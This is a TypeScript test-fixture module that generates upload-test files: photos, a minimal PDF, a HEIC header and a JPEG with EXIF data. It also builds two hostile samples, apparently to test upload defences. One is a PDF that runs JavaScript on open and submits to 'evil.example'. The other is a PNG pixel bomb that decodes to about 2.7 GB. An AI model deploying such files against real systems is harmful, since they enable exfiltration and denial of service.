import { crc32, deflateSync } from 'node:zlib'

import sharp from 'sharp'

/** Real files for upload tests, made on the spot: photos, a PDF, and the files attackers send. */
export function photo(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 120, b: 90 } } })
}

// One empty A4 page with a correct cross-reference table, as a real (if tiny) PDF writer would produce.
export function minimalPdf(): Buffer {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ])
}

/** A one-page PDF that runs JavaScript when opened (/OpenAction) and names a script (/Names /JavaScript). */
export function activePdf(): Buffer {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(run) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>',
    "<< /Type /Action /S /JavaScript /JS (app.alert('pdf script ran'); this.submitForm('http://evil.example/');) >>",
  ])
}

function pdfOf(objects: string[]): Buffer {
  let body = '%PDF-1.4\n'
  const offsets = objects.map((object, index) => {
    const offset = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const xref = body.length
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(body, 'latin1')
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typed))
  return Buffer.concat([length, typed, crc])
}

/** A valid PNG header declaring 30000×30000 RGB pixels (2.7 GB decoded) with only a few rows of data. */
export function pixelBombPng(): Buffer {
  const side = 30_000
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 8 // bits per channel
  header[9] = 2 // RGB
  const rows = deflateSync(Buffer.alloc(4 * (1 + side * 3)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** The opening `ftyp` box of an iPhone HEIC photo. */
export const heicBytes = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
])

/** A portrait as a phone would send it: a 1200×1600 JPEG with camera metadata. */
export const portraitJpeg = () =>
  photo(1200, 1600)
    .jpeg({ quality: 85 })
    .withExif({ IFD0: { Make: 'PhoneCam', Copyright: 'Nguyễn Văn A' } })
    .toBuffer()

const PHONE_PHOTO = { width: 4000, height: 3000, channels: 3 as const }

/** The grain of a phone photo (4000×3000 raw pixels): made once, shared by the photos made on it. */
export const phoneGrain = (): Promise<Buffer> =>
  sharp({
    create: {
      ...PHONE_PHOTO,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .blur(0.7)
    .raw()
    .toBuffer()

/**
 * Photo number `i`: a distinct 4000×3000 JPEG with the grain of a phone photo (about 2.5 MB, like
 * one): a coloured disc and ground over the grain, and its number.
 */
export async function phonePhoto(i: number, grain: Buffer): Promise<Buffer> {
  const hue = (i * 137) % 360
  const scene = `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="3000"><circle cx="${1700 + (i % 17) * 20}" cy="1300" r="${700 + (i % 7) * 30}" fill="hsl(${hue},45%,55%)" fill-opacity="0.8"/><ellipse cx="2000" cy="3100" rx="1700" ry="1300" fill="hsl(${(hue + 180) % 360},35%,35%)" fill-opacity="0.85"/><text x="100" y="250" font-size="180" fill="#fff">${i}</text></svg>`
  return sharp(grain, { raw: PHONE_PHOTO })
    .composite([{ input: Buffer.from(scene) }])
    .jpeg({ quality: 88 })
    .toBuffer()
}
